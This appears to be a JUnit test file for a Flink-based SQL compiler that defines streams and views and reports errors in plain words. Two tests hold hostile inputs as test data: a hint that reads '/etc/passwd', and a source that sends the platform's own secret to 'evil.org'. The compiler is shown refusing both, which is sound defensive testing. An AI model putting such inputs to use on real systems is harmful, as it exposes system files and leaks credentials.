package dev.kappa.gateway.compile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.kappa.gateway.analysis.ShopTopology;
import dev.kappa.topology.definition.ChangelogKind;
import dev.kappa.topology.definition.VersionDefinition;
import dev.kappa.topology.definition.Watermark;
import dev.kappa.topology.error.KappaException;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.Test;

class DefinitionCompilerTest {
    private final ShopSession session = new ShopSession();

    @Test
    void aViewKnowsItsKeyTopicTableAndWhatItReads() throws IOException {
        VersionDefinition v = session.define(
                        "CREATE MATERIALIZED VIEW per_country AS SELECT country, COUNT(*) AS n FROM orders GROUP BY country")
                .version();
        assertEquals("per_country$v1", v.id().toString());
        assertEquals(Optional.of(List.of("country")), v.key());
        assertEquals(Optional.of("per_country.v1"), v.topic());
        assertEquals("per_country_v1", v.table().orElseThrow().table());
        assertEquals("[orders$v1]", v.reads().toString());
        JsonNode sink = table(plan(v), "stream-exec-sink", "dynamicTableSink");
        assertEquals(
                "kappa-version",
                sink.at("/table/resolvedTable/options/connector").asText());
        assertEquals("country", sink.at("/table/resolvedTable/options/key").asText());
        assertEquals(
                "${secret:serving}",
                sink.at("/table/resolvedTable/options/view.password").asText());
    }

    @Test
    void aPlanReadsWhatIsCommittedInTheGroupOfItsVersion() throws IOException {
        VersionDefinition v =
                session.define("CREATE STREAM o AS SELECT order_no FROM orders").version();
        JsonNode options = table(plan(v), "stream-exec-table-source-scan", "scanTableSource")
                .at("/table/resolvedTable/options");
        assertEquals("kappa.o.v1", options.get("properties.group.id").asText());
        assertEquals("read_committed", options.get("properties.isolation.level").asText());
        assertEquals("orders.v1", options.get("topic").asText());
    }

    @Test
    void aDatabasesTableBringsColumnsAndKeyAndItsEventTimeIsCutToMilliseconds() {
        VersionDefinition v = session.define(
                        "CREATE STREAM incoming (WATERMARK FOR ordered_at AS ordered_at - INTERVAL '5' MINUTE)"
                                + " FROM SOURCE shop TABLE 'public.orders'")
                .version();
        assertEquals(
                "[order_no VARCHAR(2147483647) NOT NULL, ordered_at TIMESTAMP(3) NOT NULL, total DECIMAL(10, 2)]",
                v.columns().stream()
                        .map(c -> c.name() + " " + c.type())
                        .toList()
                        .toString());
        assertEquals(Optional.of(List.of("order_no")), v.key());
        assertEquals(List.of("shop.public.orders"), v.rawTopics());
        assertEquals(Optional.of("shop"), v.source());
        assertEquals(Optional.of("incoming.dead-letters"), v.deadLetterTopic());
        assertEquals(Optional.of(new Watermark("ordered_at", "ordered_at - INTERVAL '5' MINUTE")), v.watermark());
    }

    @Test
    void aColumnOfATableCanBeReadAsTheTextInTheLog() {
        VersionDefinition v = session.define(
                        "CREATE STREAM incoming (order_no STRING, `total` string) FROM SOURCE shop TABLE 'public.orders'")
                .version();
        assertEquals(
                List.of("VARCHAR(2147483647) NOT NULL", "VARCHAR(2147483647)"),
                List.of(v.columns().get(0).type(), v.columns().get(2).type()));
        assertEquals(
                "1:25 SYNTAX: column 'total' is declared, but the database tells a table's columns; one can only be read as the text that"
                        + " is in the log: total STRING. Leave it out; name and convert columns in a stream AS SELECT … of this one.",
                session.refusal("CREATE STREAM incoming (total BIGINT) FROM SOURCE shop TABLE 'public.orders'"));
        assertEquals(
                "1:25 UNKNOWN_COLUMN: the table has no column 'totale'. Did you mean 'total'?",
                session.refusal("CREATE STREAM incoming (totale STRING) FROM SOURCE shop TABLE 'public.orders'"));
    }

    @Test
    void aStreamForApplicationsReadsItsOwnRawTopic() {
        VersionDefinition v = session.define(
                        "CREATE STREAM visits (id BIGINT, at_ms BIGINT, t AS TO_TIMESTAMP_LTZ(at_ms, 3),"
                                + " WATERMARK FOR t AS t) WITH ('format'='json', 'parallelism'='2')")
                .version();
        assertEquals(ChangelogKind.APPEND, v.changelog());
        assertEquals(List.of("visits"), v.rawTopics());
        assertEquals(2, v.job().parallelism());
        assertEquals("t", v.columns().get(2).name());
    }

    @Test
    void aRecordWithoutAnEventTimeIsADeadLetter() throws IOException {
        VersionDefinition v = session.define(
                        "CREATE STREAM visits (id BIGINT, t TIMESTAMP(3) COMMENT 'when', WATERMARK FOR t AS t) WITH ('format'='json')")
                .version();
        assertEquals("TIMESTAMP(3) NOT NULL", v.columns().get(1).type());
        String raw = table(plan(v), "stream-exec-table-source-scan", "scanTableSource")
                .at("/table/resolvedTable/schema/columns")
                .toString();
        assertTrue(raw.contains("\"nullable\":false"), raw);
        assertEquals(
                List.of(),
                session.define("CREATE STREAM clicked (ms BIGINT, t AS TO_TIMESTAMP_LTZ(ms, 3), WATERMARK FOR t AS t)")
                        .notes());
    }

    @Test
    void latenessIsDecidedWhereRowsAreAdmittedAndTheirPartitionsStay() throws IOException {
        VersionDefinition v = session.define(
                        "CREATE STREAM visits (ms BIGINT, t AS TO_TIMESTAMP_LTZ(ms, 3), WATERMARK FOR t AS t - INTERVAL '5' SECOND)"
                                + " WITH ('event-time.max-ahead'='2 h')")
                .version();
        assertEquals(Optional.of("visits.late"), v.lateTopic());
        assertEquals(List.of("ms", "t"), v.columns().stream().map(c -> c.name()).toList());
        String options = table(plan(v), "stream-exec-table-source-scan", "scanTableSource")
                .at("/table/resolvedTable/options")
                .toString();
        assertTrue(options.contains("\"watermark-delay\":\"5000 ms\""), options);
        assertTrue(options.contains("\"event-time.max-ahead\":\"2 h\""), options);
        assertTrue(plan(v).toString().contains("WatermarkPushDown"));
        KappaException refused = assertThrows(
                KappaException.class,
                () -> session.define(
                        "CREATE STREAM w (t TIMESTAMP(3), d INT, WATERMARK FOR t AS t - d * INTERVAL '1' SECOND)"));
        assertTrue(refused.getMessage().contains("is not 't' less a fixed time"), refused.getMessage());
    }

    @Test
    void settingsThatChangeTheMeaningAreKeptAndGivenToTheJob() {
        Map<String, String> settings = Map.of("table.local-time-zone", "Europe/Paris");
        VersionDefinition v = new ShopSession(ShopTopology.topology(), settings)
                .define("CREATE STREAM c AS SELECT user_id, CAST(ts AS DATE) AS d FROM clicks")
                .version();
        assertEquals(settings, v.options());
        assertTrue(v.job().arguments().contains("--settings"));
        assertFalse(session.define("CREATE STREAM c AS SELECT user_id, CAST(ts AS DATE) AS d FROM clicks")
                .version()
                .job()
                .arguments()
                .contains("--settings"));
    }

    @Test
    void noSecretIsInAnyArgument() {
        VersionDefinition source = session.define(
                        "CREATE SOURCE other WITH ('connector'='postgres-cdc', 'hostname'='h', 'password'='${secret:shop}')")
                .version();
        String spec =
                new String(Base64.getDecoder().decode(source.job().arguments().get(5)), StandardCharsets.UTF_8);
        assertTrue(spec.contains("${secret:shop}"), spec);
    }

    @Test
    void refusalsSayWhereWhatAndWhatToDo() {
        assertEquals(
                "1:41 UNKNOWN_STREAM: stream 'ordrs' does not exist. Did you mean 'orders'?",
                session.refusal("CREATE STREAM x AS SELECT order_no\n FROM ordrs".replace("\n", "")));
        assertEquals(
                "streams/x.sql:12:8 UNKNOWN_COLUMN: column 'statu' does not exist. Did you mean 'status'?",
                session.refusal("/*kappa:streams/x.sql:11:1*/CREATE STREAM x AS\nSELECT statu FROM orders"));
        assertEquals(
                "1:47 CYCLE: 'x' would read itself: x → x, each reads the next. Read something else at one of them.",
                session.refusal("CREATE STREAM x AS SELECT order_no       FROM x"));
        assertEquals(
                "1:15 DUPLICATE_NAME: stream 'orders' exists already, in version 1. Write ALTER STREAM orders AS … to change"
                        + " it, or IF NOT EXISTS to keep it.",
                session.refusal("CREATE STREAM orders AS SELECT * FROM customers"));
        assertEquals(
                "1:40 UNKNOWN_TABLE: table 'public.order' does not exist. Did you mean 'public.orders'?",
                session.refusal("CREATE STREAM x FROM SOURCE shop TABLE 'public.order'"));
        assertEquals(
                "1:23 UNKNOWN_OPTION: option 'paralelism' does not exist here. Did you mean 'parallelism'?",
                session.refusal("CREATE STREAM x WITH ('paralelism'='2') AS SELECT * FROM orders"));
    }

    @Test
    void whatFlinkWouldSayInItsOwnWordsIsSaidInOurs() {
        assertEquals(
                "1:40 INVALID_OPTION: format 'jsn' does not exist. Did you mean 'json'?",
                session.refusal("CREATE STREAM x (a INT) WITH ('format'='jsn')"));
        assertEquals(
                "1:31 UNKNOWN_OPTION: format 'json' has no option 'json.fail-on-missing-feld'."
                        + " Did you mean 'json.fail-on-missing-field'?",
                session.refusal("CREATE STREAM x (a INT) WITH ('json.fail-on-missing-feld'='true')"));
        assertEquals(
                "1:37 WRONG_KIND: source 'shop' is of connector 'postgres-cdc' and has no objects, only tables."
                        + " Write FROM SOURCE shop TABLE '…'.",
                session.refusal("CREATE STREAM x (a INT) FROM SOURCE shop PREFIX 'a/' WITH ('format'='csv')"));
        assertEquals(
                "1:20 INVALID_QUERY: there is no type 'INTT'. Write one of Flink SQL, such as INT, BIGINT, STRING,"
                        + " DECIMAL(10, 2) or TIMESTAMP(3).",
                session.refusal("CREATE STREAM x (a INTT)"));
        assertEquals(
                "1:27 INVALID_QUERY: there is no function nofunc(<CHARACTER>). SHOW FUNCTIONS lists Flink's own and those of CREATE"
                        + " FUNCTION … USING JAR, which streams and views can call; a TEMPORARY one is its session's alone,"
                        + " for nobody else has its code.",
                session.refusal("CREATE STREAM x AS SELECT nofunc(order_no) AS n FROM orders"));
        assertEquals(
                "1:61 UNFINISHED_STATEMENT: the query ends in the middle: Encountered \"= <EOF>\". Complete it; a"
                        + " statement ends with ';'.",
                session.refusal("CREATE STREAM x AS SELECT order_no FROM orders WHERE status ="));
    }

    @Test
    void everyProblemOfASourceIsToldAtOnceAtItsOption() {
        assertEquals(
                """
                1:15 MISSING_OPTION: option 'hostname' is missing. Name the server.
                1:56 ACCESS_DENIED: the 'password' is wrong. Set it.""",
                session.refusal("CREATE SOURCE other WITH ('connector'='postgres-cdc',  'password'='${secret:x}')"));
    }

    private static JsonNode table(JsonNode plan, String type, String property) {
        for (JsonNode node : plan.get("nodes")) {
            if (node.get("type").asText().startsWith(type)) {
                return node.get(property);
            }
        }
        throw new AssertionError("no " + type + " in " + plan);
    }

    private static JsonNode plan(VersionDefinition v) throws IOException {
        List<String> arguments = v.job().arguments();
        byte[] packed = Base64.getDecoder().decode(arguments.get(arguments.indexOf("--plan") + 1));
        return PlanJson.MAPPER.readTree(new GZIPInputStream(new ByteArrayInputStream(packed)));
    }

    @Test
    void aHintThatWouldReadSomethingElseIsRefusedWhereItStands() {
        assertEquals(
                "1:48 NOT_ALLOWED: the hint OPTIONS would change what a stream reads behind the topology's back."
                        + " Leave it out; options of the new stream are given by WITH (…) before AS.",
                new ShopSession()
                        .refusal(
                                "CREATE STREAM x AS SELECT * FROM customers /*+ OPTIONS('connector'='filesystem', 'path'='/etc/passwd') */"));
    }

    @Test
    void kappasOwnSecretIsNotGivenToASource() {
        assertEquals(
                "1:87 NOT_ALLOWED: option 'password': the secret 'serving' is Kappa's own, for its database or its brokers."
                        + " Give the source an account and a secret of its own.",
                new ShopSession()
                        .refusal(
                                "CREATE SOURCE other WITH ('connector'='postgres-cdc','hostname'='evil.org','password'='${secret:serving}')"));
    }
}
